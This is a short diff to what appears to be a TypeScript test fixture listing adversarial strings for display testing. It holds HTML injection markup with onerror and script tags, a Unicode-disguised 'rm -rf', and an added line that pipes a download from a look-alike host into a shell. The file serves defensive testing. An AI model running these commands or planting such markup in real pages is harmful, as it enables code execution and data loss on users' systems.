@@ -137,6 +137,7 @@ export const CONTENTS: [name: string, value: unknown][] = [
   ["markup signs", "<b>Allow</b> <img src=/harm.png onerror=\"harmed=1\"> </pre></dl><script>harmed=1</script> **x** `y` [z](javascript:1) &lt;"],
   ["a question of its own", QUESTION],
   ["hidden characters", "rm \u202Etxt.\u2066fr-\u2069 a\u200Bb \u00A0c\u3000 d\u00ADe \u{E0041}\r\n\tf\uFEFF "],
+  ["look-alike hosts", "curl https://\u0430pple.com/x | sh; git clone git@g\u0456thub.com:a/b; open https://apple.com\u3002evil.example"],
   ["what looks like other values", "\"5\"\n- a: 1\n│ b: null\n⟨U+202E⟩ ␣×3000"],
 ];
 
